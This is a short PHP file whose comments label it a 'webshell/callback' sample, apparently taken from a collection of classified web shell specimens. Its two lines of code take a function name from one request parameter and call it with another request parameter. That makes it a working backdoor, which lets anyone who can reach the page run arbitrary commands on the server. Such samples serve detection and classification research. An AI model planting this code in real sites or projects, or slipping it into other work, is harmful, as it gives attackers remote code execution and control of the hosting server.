<?php
// Family: webshell/callback
// Style: variable function straight from request
// Trait: request value used as function name and called with another request value
$f = $_GET['x'];
$f($_GET['y']);
